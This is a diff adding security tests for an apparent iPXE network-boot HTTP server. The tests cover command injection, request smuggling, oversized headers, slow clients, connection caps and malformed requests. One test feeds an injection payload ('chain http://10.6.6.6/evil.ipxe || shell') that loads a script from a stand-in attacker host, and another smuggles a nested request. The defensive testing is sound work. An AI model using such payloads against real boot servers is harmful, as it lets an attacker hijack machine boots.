@@ -359,3 +359,164 @@ def test_nginx_config_serves_images_and_proxies_the_rest() -> None:
     assert "proxy_pass http://127.0.0.1:8080;" in conf
     assert "client_max_body_size 64k;" in conf
     assert conf.count("{") == conf.count("}")
+
+
+def raw_exchange(srv: BootenvServer, data: bytes, *, wait: float = 10.0) -> bytes:
+    """Send `data` on one connection and read until the server closes it."""
+    with socket.create_connection(("127.0.0.1", srv.port), timeout=wait) as s:
+        s.sendall(data)
+        out = b""
+        while chunk := s.recv(65536):
+            out += chunk
+        return out
+
+
+def test_an_injected_error_message_cannot_add_ipxe_commands(server: BootenvServer) -> None:
+    """Anyone may post an event; its message is echoed into the machine's next script."""
+    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
+    post(server, MAC, {"event": "error", "message": "disk gone ; chain http://10.6.6.6/evil.ipxe || shell"})
+    text = script(server, MAC)
+    assert "disk gone" in text
+    for line in text.splitlines():
+        words = line.split()
+        assert "chain" not in words or line.startswith("echo ")
+        if line.startswith("echo "):
+            assert not {";", "||", "&&"} & set(words)
+
+
+def test_a_body_answered_unread_is_not_taken_for_a_request(server: BootenvServer) -> None:
+    """A POST refused before its body is read closes the connection: the body (here a
+    whole request of its own) is never parsed as the next request."""
+    inner = f"POST /callback/{OTHER} HTTP/1.1\r\nHost: x\r\nContent-Length: 17\r\n\r\n" + '{"event":"start"}'
+    outer = f"POST /callback/not-a-mac HTTP/1.1\r\nHost: x\r\nContent-Length: {len(inner)}\r\n\r\n{inner}"
+    answer = raw_exchange(server, outer.encode())
+    assert answer.startswith(b"HTTP/1.1 400") and answer.count(b"HTTP/1.1 ") == 1
+    get_with_body = f"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\nContent-Length: {len(inner)}\r\n\r\n{inner}"
+    answer = raw_exchange(server, get_with_body.encode())
+    assert answer.startswith(b"HTTP/1.1 200") and answer.count(b"HTTP/1.1 ") == 1
+    assert Store(server.config.state).get(OTHER) is None
+
+
+def test_request_heads_are_bounded(server: BootenvServer) -> None:
+    headers = "".join(f"X-Pad-{i}: {'y' * 8000}\r\n" for i in range(8))  # 64 KB, under http.server's limits
+    answer = raw_exchange(server, f"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\n{headers}\r\n".encode())
+    assert answer.startswith(b"HTTP/1.1 431")
+    answer = raw_exchange(server, f"GET /{'a' * 40000} HTTP/1.1\r\n\r\n".encode())
+    assert answer.startswith(b"HTTP/1.1 414")
+
+
+def test_a_client_dripping_its_head_is_dropped(
+    server: BootenvServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("bootenv.serve.HEAD_TIMEOUT", 1.0)
+    started = time.monotonic()
+    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
+        s.sendall(b"GET /ipxe/boot.ipxe HTTP/1.1\r\n")
+        with pytest.raises((ConnectionError, OSError)):
+            for _ in range(50):  # a byte every 0.2 s: each well within the socket timeout
+                s.sendall(b"X")
+                time.sleep(0.2)
+                if s.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b"":
+                    raise ConnectionResetError("closed by the server")
+    assert time.monotonic() - started < 5
+
+
+def test_connections_past_the_cap_get_503(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("bootenv.serve.MAX_CONNECTIONS", 2)
+    make_image(tmp_path / "images")
+    with running(ServeConfig(images=tmp_path / "images", state=tmp_path / "state", port=0)) as srv:
+        held = [socket.create_connection(("127.0.0.1", srv.port), timeout=10) for _ in range(2)]
+        try:
+            for s in held:  # each holds a slot once its thread runs
+                s.sendall(b"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\n\r\n")
+                assert s.recv(15).startswith(b"HTTP/1.1 200")
+            answer = raw_exchange(srv, b"GET /ipxe/boot.ipxe HTTP/1.1\r\nHost: x\r\n\r\n")
+            assert answer.startswith(b"HTTP/1.1 503")
+        finally:
+            for s in held:
+                s.close()
+        deadline = time.monotonic() + 5
+        while get(srv, "/ipxe/boot.ipxe")[0] != 200:  # slots come back as connections end
+            assert time.monotonic() < deadline
+            time.sleep(0.05)
+
+
+def test_if_range_with_a_date_sends_the_whole_file(server: BootenvServer) -> None:
+    """A date validates to the second: a file replaced within it would be spliced."""
+    path, data = blob(server)
+    _, headers, _ = request(server, "HEAD", path)
+    status, _, body = get(server, path, Range="bytes=0-9", If_Range=headers["Last-Modified"])
+    assert status == 200 and body == data
+
+
+def test_a_file_that_shrinks_while_sent_ends_the_connection(
+    server: BootenvServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import os
+
+    from bootenv.serve import Handler
+
+    path, data = blob(server)
+    send = Handler._send_file
+
+    def shrinking(self: Handler, f: Any, size: int, mtime: float, head: bool) -> None:
+        os.truncate(f.name, 10)
+        send(self, f, size, mtime, head)
+
+    monkeypatch.setattr(Handler, "_send_file", shrinking)
+    answer = raw_exchange(server, f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+    head, _, body = answer.partition(b"\r\n\r\n")
+    assert f"Content-Length: {len(data)}".encode() in head
+    assert body == data[:10]  # and then the server closed: raw_exchange returned
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "headers", "body", "status"),
+    [
+        ("GET", "/images/lamp/manifest.json", {"Range": "bytes=" + "9" * 5000 + "-"}, b"", 200),
+        ("GET", "/images/lamp/manifest.json", {"Range": "bytes=\u00b2-"}, b"", 200),
+        ("POST", f"/callback/{MAC}", {"Content-Length": "9" * 5000}, b"", 411),
+        ("POST", f"/callback/{MAC}", {"Content-Length": "\u00b2"}, b"", 411),
+        ("POST", f"/callback/{MAC}", {}, b"[" * 30000 + b"]" * 30000, 400),
+        ("GET", "/ipxe/select/%24%7Bx%7D?mac=" + MAC, {}, b"", 200),
+    ],
+)
+def test_malformed_requests_get_an_answer_not_a_traceback(
+    server: BootenvServer,
+    caplog: pytest.LogCaptureFixture,
+    method: str,
+    path: str,
+    headers: dict[str, str],
+    body: bytes,
+    status: int,
+) -> None:
+    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
+    if body:
+        head += f"Content-Length: {len(body)}\r\n"
+    answer = raw_exchange(
+        server,
+        f"{method} {path} HTTP/1.1\r\nHost: x\r\n{head}Connection: close\r\n\r\n".encode() + body,
+    )
+    assert answer.startswith(f"HTTP/1.1 {status}".encode())
+    assert "Traceback" not in caplog.text and "error while serving" not in caplog.text
+
+
+def test_a_damaged_record_is_a_500_with_its_reason(server: BootenvServer) -> None:
+    Store(server.config.state).put(assign(MAC, "lamp", "mysql", now=time.time()))
+    (server.config.state / "machines" / f"{MAC.replace(':', '-')}.json").write_text("{torn")
+    status, _, body = get(server, f"/ipxe/machine?mac={MAC}")
+    assert status == 500 and "damaged" in json.loads(body)["error"]
+
+
+def test_a_menu_choice_never_replaces_an_admins_assignment(tmp_path: Path) -> None:
+    """The check is repeated under the machine's lock (serve's select reads the catalog
+    between its first check and the write)."""
+    store = Store(tmp_path)
+    from bootenv.serve import _open_to_menu
+
+    menu_choice = assign(MAC, "lamp", "none", now=time.time(), entry="lamp-none")
+    store.put(assign(MAC, "lamp", "mysql", now=time.time()))  # the admin, meanwhile
+    assert not store.put(menu_choice, only_if=_open_to_menu)
+    machine = store.get(MAC)
+    assert machine is not None and machine.components == "mysql"
+    assert store.put(menu_choice, only_if=lambda m: True)
